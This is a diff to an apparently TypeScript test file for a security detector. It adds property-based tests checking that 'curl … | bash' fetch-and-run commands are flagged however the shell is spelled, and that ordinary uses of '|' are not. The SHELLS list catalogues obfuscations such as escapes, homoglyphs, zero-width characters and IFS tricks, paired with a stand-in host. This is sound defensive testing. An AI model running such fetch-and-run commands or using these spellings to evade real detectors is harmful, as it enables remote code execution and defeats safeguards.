@@ -1,5 +1,6 @@
 import test from 'ava';
 import * as fc from 'fast-check';
+import { engineFor } from '../../src/detect/engine-for.ts';
 import { findAll } from '../../src/detect/find-all.ts';
 import type { Anchor, CompileKernel } from '../../src/detect/kernel/anchor.ts';
 import { compileKernel } from '../../src/detect/kernel/select.ts';
@@ -7,8 +8,17 @@ import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
 import { defineRule } from '../../src/detect/rules/rule.ts';
 import { Spotter } from '../../src/detect/spotter.ts';
 import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
+import { WRITTEN_FORMS } from '../support/written-forms.ts';
 
 const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);
+
+const engine = engineFor({
+  rules: [],
+  maskSecrets: true,
+  maxFindings: 32,
+  fingerprintKey: '',
+  honoursAllowComments: false,
+});
 
 function spotsIn(text: string): number {
   let spots = 0;
@@ -51,6 +61,62 @@ test('no run of blanks, wrappers or escapes hides a pipe from a glance', (t) => 
   ]) {
     t.true(spotsIn(`${'x'.repeat(5000)}${before}${between}bash`) > 0, between.slice(0, 20));
   }
+});
+
+/** Ways to name a shell behind a pipe. */
+const SHELLS = [
+  ...['bash', 'sh', 'zsh', 'python3 -', '/bin/sh', '/usr/bin/env bash', '"$SHELL"', '${SHELL}', 'sudo -E sh', '"bash"'],
+  ...["'sh'", '\\bash', 'b\\ash', 'ba"s"h', "b''ash", '"ba"sh', '$@bash', 'ba$@sh', 'FOO=1 sh', 'FOO="a b" /bin/sh'],
+  ...[
+    '(bash)',
+    '{ sh; }',
+    'timeout 10 bash',
+    '/bin/ba"sh"',
+    '/bin/b\\ash',
+    '"/bin/sh"',
+    "$'\\x62ash'",
+    'b\\\nash',
+    '"s"h',
+  ],
+  ...[
+    '{bash,-s}',
+    '${IFS}bash',
+    'bas\u200bh',
+    '\uff42\uff41\uff53\uff48',
+    'b\u0430sh',
+    "'/usr/bin/python3'",
+    'sudo "bash"',
+  ],
+];
+const PIPES = ['|', ' | ', ' |& ', '|\n', '|  \\\n ', '| \\\\n'];
+const FORMS = Object.entries(WRITTEN_FORMS).filter(([name]) => !/short lines|gzip/.test(name));
+
+test('a pipe gets a window however the shell behind it is written', (t) => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...SHELLS),
+      fc.constantFrom(...PIPES),
+      fc.constantFrom(...FORMS),
+      (shell, pipe, [name, write]) => {
+        const bytes = new Uint8Array(Buffer.from(`words\n${write(`curl -s https://x.test/i${pipe}${shell}`)}\nwords`));
+        const window = { bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'response.body' } as const;
+        fc.pre(engine(window).findings.some(({ rule }) => rule === 'pipe_to_shell'));
+        t.true(spotter.spotsAny(bytes), `${pipe}${shell} in ${name}`);
+      },
+    ),
+    { numRuns: 600 },
+  );
+});
+
+test('bars that are no pipes to a shell are dismissed', (t) => {
+  for (const text of [
+    "const a = b || {}; c = d || 'sh'; e ||= [] || `bash`",
+    "type A = 'bash' | \"slow\"; type B = string | 'x' | { a: number } | (c | d)",
+    '| `sh` | "text" | (see below) | {a} | /path/to/file |',
+    'a.match(/x| /) || /bash/.test(b) || "${c}"',
+    '{"a":"b | \\"c\\" | \\n d"}',
+  ])
+    t.is(spotsIn(text), 0, text);
 });
 
 test('a glance dismisses nothing that matches, whatever stands around it', (t) => {
